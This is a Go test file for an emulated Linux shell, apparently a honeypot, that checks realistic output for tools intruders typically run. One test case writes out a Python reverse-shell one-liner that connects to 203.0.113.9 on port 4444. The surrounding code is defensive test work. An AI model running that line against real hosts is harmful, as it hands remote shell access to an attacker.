package shell

import (
	"regexp"
	"strings"
	"testing"
	"time"
)

func TestToolsThatIntrudersUse(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{`echo a b c | xargs -n1 echo x; printf 'a b\nc\n' | xargs -I{} echo "<{}>"; echo 1 2 3 | xargs -n 2`, `^x a\nx b\nx c\n<a b>\n<c>\n1 2\n3\n$`},
		{`echo abc | sed -e s/a/x/ -e s/b/y/; printf '1\n2\n3\n4\n' | sed -n '2,3p;$p'; printf 'a\nb\n' | sed '/a/d; s/b/[&]/'`, `^xyc\n2\n3\n4\n\[b\]\n$`},
		{`echo 'k=1' > /tmp/c; sed -i 's/k=.*/k=2/' /tmp/c; sed -E 's/(k)=([0-9])/\2\1/' /tmp/c; sed '1i first' /tmp/c; sed 'nonsense' /tmp/c; echo $?`, `^2k\nfirst\nk=2\nsed: -e expression #1, char 2: extra characters after command\n1\n$`},
		{`printf 'a:1\n\nb:2\n' > /tmp/f; cat /tmp/f | while IFS=: read a b; do echo "$a-$b"; done; echo "[$IFS]" | od -An -c | head -1`, `^a-1\n-\nb-2\n   \[      \\t  \\n   \]  \\n\n$`},
		{`dd if=/dev/zero of=/tmp/z bs=1M count=1; stat -c '%s %F' /tmp/z`, `^1\+0 records in\n1\+0 records out\n1048576 bytes \(1\.0 MB, 1\.0 MiB\) copied, \d+(\.\d+)? s, [\d.]+ .?B/s\n1048576 regular file\n$`},
		{`dd if=/nonesuch; dd if=/dev/zero bs=99999G count=9999999999; echo ok`, `^dd: failed to open '/nonesuch': No such file or directory\ndd: invalid number: .*\nok\n$`},
		{`head -c 8 /dev/urandom | wc -c; head -c 4 /dev/zero | od -An -tx1; [ "$(head -c 9 /dev/urandom | base64)" != "$(head -c 9 /dev/urandom | base64)" ] && echo differ`, `^8\n 00 00 00 00\ndiffer\n$`},
		{`timeout 0.2 sleep 5; echo $?; timeout 50 sh -c 'exit 3'; echo $?; timeout 0.1 sh -c 'while :; do sleep 1; done'; echo $?`, `^124\n3\n124\n$`},
		{`time sleep 0.1`, `^\nreal\t0m(0\.[1-9]|[1-9]\d?\.\d)\d\ds\nuser\t0m0\.\d\d\ds\nsys\t0m0\.\d\d\ds\n$`},
		{`stat -c %i / /etc/passwd /etc/../etc/passwd | sort -u | wc -l`, `^2\n$`},
		{`echo '* * * * * x' | crontab -; crontab -l`, `^\* \* \* \* \* x\n$`},
		{`apt list --installed 2>/dev/null | head -2; apt-cache policy bash | head -2`, `^Listing\.\.\. Done\nadduser/stable,now 3\.134 all \[installed\]\nbash:\n  Installed: 5\.2`},
		{`tty; readlink /bin; readlink -f /bin/sh; cmp /etc/hosts /etc/hostname; cmp /etc/hosts /etc/hosts; echo $?`, `^/dev/pts/0\nusr/bin\n/usr/bin/dash\n/etc/hosts /etc/hostname differ: byte 1, line 1\n0\n$`},
		{`getent passwd root; getent hosts localhost; getent passwd nobodyatall; echo $?; locale | head -1; hostnamectl | head -1`, `^root:x:0:0:.*\n::1 +localhost ip6-localhost ip6-loopback\n2\nLANG=en_US\.UTF-8\n Static hostname: SRV-ALPHA-42\n$`},
		{`lsof -i | head -1; man ls; echo hi > /tmp/g; gzip /tmp/g; zcat /tmp/g.gz; ls /tmp/g*`, `^COMMAND .* NAME\nNo manual entry for ls\nhi\n/tmp/g\.gz\n$`},
		{`ssh-keygen -q -t ed25519 -N '' -f /tmp/k; head -1 /tmp/k; cut -c1-30 /tmp/k.pub; stat -c %a /tmp/k`, `^-----BEGIN OPENSSH PRIVATE KEY-----\nssh-ed25519 AAAAC3NzaC1lZDI1NT\n600\n$`},
		{`python3 -c 'import os;print(os.uname())'`, `^posix\.uname_result\(sysname='Linux', nodename='SRV-ALPHA-42', release='6\.1`},
		{`python3 -c 'print(os.getuid())'; echo $?; python3 -c 'import requests'; python3 -c 'import os; os.system("id -un"); print(os.popen("echo a; echo b").read())'`, `^Traceback \(most recent call last\):\n  File "<string>", line 1, in <module>\nNameError: name 'os' is not defined\n1\n(?s:.*)ModuleNotFoundError: No module named 'requests'\nroot\na\nb\n\n$`},
		{`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0)'; echo $?`, `OSError: \[Errno 113\] No route to host\n1\n$`},
		{`echo 'print("from a pipe")' | python3; echo "print(2*3)" > /tmp/p.py; python3 /tmp/p.py`, `^from a pipe\n6\n$`},
	} {
		s := newSession(t, Options{User: "root", Interactive: true})
		if got := s.do(c.line); !regexp.MustCompile(c.want).MatchString(got) {
			t.Errorf("%s prints\n%s", c.line, got)
		}
	}
}

func TestJobs(t *testing.T) {
	s := newSession(t, Options{User: "root", Interactive: true})
	began := time.Now()
	got := s.do("sleep 50 & echo $!")
	m := regexp.MustCompile(`^\[1\] (\d+)\n(\d+)\n$`).FindStringSubmatch(got)
	if m == nil || m[1] != m[2] {
		t.Fatalf("a job begins with %q", got)
	}
	if got := s.do("jobs; ps -ef | grep -c '[s]leep 50'"); got != "[1]+  Running                 sleep 50 &\n1\n" {
		t.Errorf("jobs prints %q", got)
	}
	s.do("kill %1")
	if got := s.endedJobs(); got != "[1]+  Terminated              sleep 50\n" {
		t.Errorf("the end of the job is %q", got)
	}
	if got := s.do("jobs; kill %1; true & wait; echo $?"); !strings.Contains(got, "kill: %1: no such job\n") || !strings.HasSuffix(got, "\n0\n") {
		t.Errorf("afterwards: %q", got)
	}
	if got := s.endedJobs(); got != "[1]+  Done                    true\n" {
		t.Errorf("the end of the other is %q", got)
	}
	if time.Since(began) > 45*time.Second {
		t.Error("a job was waited for")
	}
	for range 3 {
		s.do("for i in {1..60}; do sleep 90 & done")
	}
	if len(s.jobs) > maxJobs {
		t.Errorf("%d jobs are kept", len(s.jobs))
	}
}
